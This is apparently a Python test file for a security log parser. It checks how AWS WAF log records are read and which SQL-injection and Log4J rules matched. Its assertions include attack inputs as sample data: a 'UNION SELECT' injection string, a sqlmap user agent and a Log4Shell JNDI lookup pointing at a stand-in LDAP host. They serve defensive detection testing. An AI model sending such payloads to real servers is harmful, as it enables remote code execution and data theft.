"""AWS WAF's logs: the request, and which rules matched it."""

from pathlib import Path

from labrys.evidence.aws_waf.events import recognise
from labrys.evidence.test_cloud_event import read_rows
from labrys.evidence.values import MULTI

SAMPLES = Path(__file__).parent / "samples"


def test_requests_and_rules() -> None:
    blocked, counted, other = read_rows("aws_waf", SAMPLES / "acl.ndjson")
    assert blocked["cs-uri"] == "/item?id=1%20UNION%20SELECT"
    assert (blocked["c-ip"], blocked["cs-method"]) == ("198.51.100.7", "GET")
    assert (blocked["cs-host"], blocked["cs-user-agent"]) == ("shop.example.com", "sqlmap/1.8")
    assert blocked["matched_rules"].split(MULTI) == [
        "AWS-AWSManagedRulesSQLiRuleSet",
        "SQLi_QUERYARGUMENTS",
    ]
    assert blocked["matched_data"] == "SQL_INJECTION in QUERY_STRING: 1 UNION SELECT"
    assert blocked["_time"] == 1_772_600_767_000
    assert "counted_rules" not in blocked
    assert counted["counted_rules"].split(MULTI) == ["Log4JRCE_HEADER", "Host_localhost_HEADER"]
    assert "per-address" in counted["matched_rules"]
    assert counted["cs-x-api-version"] == "${jndi:ldap://203.0.113.9/a}"
    assert other["shape"] == "json.record"


def test_what_is_none() -> None:
    assert recognise({"webaclId": "x", "action": "ALLOW", "httpRequest": "none"}) is None
    assert recognise({"webaclId": "x", "httpRequest": {}}) is None
